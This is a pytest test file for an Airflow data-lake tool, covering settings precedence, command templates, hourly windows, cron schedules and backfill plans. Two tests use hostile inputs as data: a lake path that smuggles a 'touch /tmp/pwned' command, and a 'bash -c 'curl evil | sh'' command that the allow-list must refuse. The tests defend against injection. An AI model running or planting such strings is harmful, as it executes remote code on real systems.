"""Settings resolution (Variables, environment, defaults), hour arithmetic and the backfill plan."""
from __future__ import annotations

from datetime import datetime, timezone

import pytest

from ticklake_airflow import hours, settings


def utc(*args) -> datetime:
    return datetime(*args, tzinfo=timezone.utc)


def test_a_variable_beats_the_environment_which_beats_the_default():
    variables = {"ticklake_lake": "s3a://prod-lake"}
    env = {"TICKLAKE_LAKE": "file:///ignored", "TICKLAKE_SPARK_JOB": "spark-submit --master yarn job.jar",
           "TICKLAKE_REPO": "/opt/ticklake"}
    values = settings.runtime_values(variables.get, env)
    assert values["lake"] == "s3a://prod-lake"
    assert values["spark_job"] == "spark-submit --master yarn job.jar"
    assert values["checkpoint_root"] == "s3a://prod-lake/_checkpoints"
    assert values["bootstrap_servers"] == "127.0.0.1:9092"
    assert settings.command("models_command", values) == [
        "java", "-jar", "/opt/ticklake/analytics/target/analytics.jar", "run", "--lake", "s3a://prod-lake", "--changed"]
    assert settings.command("maintain_command", values)[:4] == ["spark-submit", "--master", "yarn", "job.jar"]


def test_default_commands_run_from_this_checkout():
    values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///tmp/my lake"})
    command = settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
    assert command == [f"{settings.REPO}/spark-jobs/bin/spark-job", "compact", "--lake",
                       "file:///tmp/my lake", "--from", "2026-11-20T14", "--to", "2026-11-20T15"]
    assert settings.command("maintain_command", values) == [
        f"{settings.REPO}/spark-jobs/bin/spark-job", "maintain", "--lake", "file:///tmp/my lake"]


def test_a_value_is_one_argument_whatever_it_holds():
    values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///l; touch /tmp/pwned #'\""})
    command = settings.command("maintain_command", values)
    assert command[-2:] == ["--lake", "file:///l; touch /tmp/pwned #'\""]


def test_a_command_may_run_only_an_allowed_executable():
    for variables in ({"ticklake_compact_command": "bash -c 'curl evil | sh'"},
                      {"ticklake_spark_job": "/tmp/elsewhere/spark-jobs/bin/spark-job"},
                      {"ticklake_spark_job": "python3 -c 'import os'"}):
        values = settings.runtime_values(variables.get, {})
        with pytest.raises(ValueError, match="ticklake_compact_command runs .* which is not an allowed executable"):
            settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
    # the deployment (not a Variable) can allow another launcher
    values = settings.runtime_values({"ticklake_spark_job": "/opt/spark/bin/spark-submit --master yarn"}.get, {})
    env = {"TICKLAKE_ALLOWED_EXECUTABLES": "/opt/spark/bin/spark-submit:java"}
    assert settings.command("maintain_command", values, env)[:3] == ["/opt/spark/bin/spark-submit", "--master", "yarn"]
    assert not settings.is_allowed(f"{settings.REPO}/spark-jobs/bin/spark-job", env)


def test_quality_thresholds_are_set_in_the_quality_command():
    template = ("java -jar {repo}/analytics/target/analytics.jar quality --lake {lake} --from {from_hour}"
                " --to {to_hour} --quality.gap-ratio.fail 0.01")
    values = settings.runtime_values({"ticklake_quality_command": template}.get, {"TICKLAKE_LAKE": "file:///lake"})
    command = settings.command("quality_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")
    assert command[-6:] == ["--from", "2026-11-20T14", "--to", "2026-11-20T15", "--quality.gap-ratio.fail", "0.01"]


def test_a_template_naming_an_unknown_setting_is_refused():
    values = settings.runtime_values(lambda name: None, {"TICKLAKE_COMPACT_COMMAND": "run {nope}"})
    with pytest.raises(ValueError, match="ticklake_compact_command 'run {nope}' uses 'nope' which is not a setting"):
        settings.command("compact_command", values, from_hour="2026-11-20T14", to_hour="2026-11-20T15")


def test_parse_time_settings_are_checked():
    assert settings.parse_time_int("retries", {}) == 3
    with pytest.raises(ValueError, match="TICKLAKE_RETRIES='many' is not a whole number"):
        settings.parse_time_int("retries", {"TICKLAKE_RETRIES": "many"})
    assert settings.start_date({"TICKLAKE_COMPACTION_START": "2026-11-20T05:00"}) == utc(2026, 11, 20, 5)


def test_a_run_looks_back_over_the_hours_that_ended_before_it():
    assert hours.lookback_window(utc(2026, 11, 20, 15), 48) == (utc(2026, 11, 18, 15), utc(2026, 11, 20, 15))
    assert hours.lookback_window(utc(2026, 11, 20, 15, 45), 1) == (utc(2026, 11, 20, 14), utc(2026, 11, 20, 15))
    with pytest.raises(ValueError, match="at least 1"):
        hours.lookback_window(utc(2026, 11, 20, 15), 0)
    assert hours.name(utc(2026, 11, 20, 14, 59)) == "2026-11-20T14"
    with pytest.raises(ValueError, match="no time zone"):
        hours.floor_hour(datetime(2026, 11, 20, 14))


def test_a_compaction_plan_renders_the_window_and_refuses_a_bad_lookback(dagbag):
    from lake_compaction import compaction_plan

    values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///lake",
                                                         "TICKLAKE_LOOKBACK_HOURS": "6"})
    plan = compaction_plan(utc(2026, 11, 20, 15, 10), values)
    compact = plan["compact_command"]
    assert compact[compact.index("--from"):] == ["--from", "2026-11-20T09", "--to", "2026-11-20T15"]
    assert plan["models_command"][-1] == "--changed"
    # the quality check covers the same window, after the models
    assert plan["quality_command"] == ["java", "-jar", f"{settings.REPO}/analytics/target/analytics.jar", "quality",
                                       "--lake", "file:///lake", "--from", "2026-11-20T09", "--to", "2026-11-20T15"]
    with pytest.raises(ValueError, match="ticklake_lookback_hours='two days' is not a whole number"):
        compaction_plan(utc(2026, 11, 20, 15), {**values, "lookback_hours": "two days"})


def test_schedules_every_n_minutes():
    assert hours.cron_every(60) == "0 * * * *"
    assert hours.cron_every(15) == "*/15 * * * *"
    assert hours.cron_every(180) == "0 */3 * * *"
    with pytest.raises(ValueError, match="does not divide"):
        hours.cron_every(45)


def test_a_backfill_covers_every_hour_its_range_touches(dagbag):
    from lake_backfill import backfill_plan

    values = settings.runtime_values(lambda name: None, {"TICKLAKE_LAKE": "file:///lake"})
    plan = backfill_plan("stock-ticks", "2026-11-20T10:30:00Z", "2026-11-20T13:00:00Z", values)
    assert plan["hours"] == ["2026-11-20T10", "2026-11-20T11", "2026-11-20T12"]
    compact = plan["compact_command"]
    assert compact[compact.index("--from"):] == ["--from", "2026-11-20T10", "--to", "2026-11-20T13"]
    assert plan["models_command"][-1] == "--changed"
    quality = plan["quality_command"]
    assert quality[quality.index("quality"):] == ["quality", "--lake", "file:///lake", "--from", "2026-11-20T10",
                                                  "--to", "2026-11-20T13"]
    backfill = plan["backfill_command"]
    assert backfill[backfill.index("--topic") + 1] == "stock-ticks"
    assert backfill[backfill.index("--starting-timestamp") + 1] == "2026-11-20T10:30:00Z"
    assert backfill[backfill.index("--ending-timestamp") + 1] == "2026-11-20T13:00:00Z"
    assert backfill[backfill.index("--checkpoint") + 1] == \
        "file:///lake/_checkpoints/backfill/stock-ticks/2026-11-20T10-2026-11-20T13"


def test_a_bad_backfill_request_is_refused_before_anything_runs(dagbag):
    from lake_backfill import backfill_plan

    values = settings.runtime_values(lambda name: None, {})
    with pytest.raises(ValueError, match="must end after it starts"):
        backfill_plan("stock-ticks", "2026-11-20T13:00:00Z", "2026-11-20T10:00:00Z", values)
    with pytest.raises(ValueError, match="ISO-8601"):
        backfill_plan("stock-ticks", "yesterday", "2026-11-20T10:00:00Z", values)
    with pytest.raises(ValueError, match="not a Kafka topic name"):
        backfill_plan("stock ticks", "2026-11-20T10:00:00Z", "2026-11-20T11:00:00Z", values)
    with pytest.raises(ValueError, match="at most 744 hours"):
        backfill_plan("stock-ticks", "2026-01-01T00:00:00Z", "2026-03-01T00:00:00Z", values)
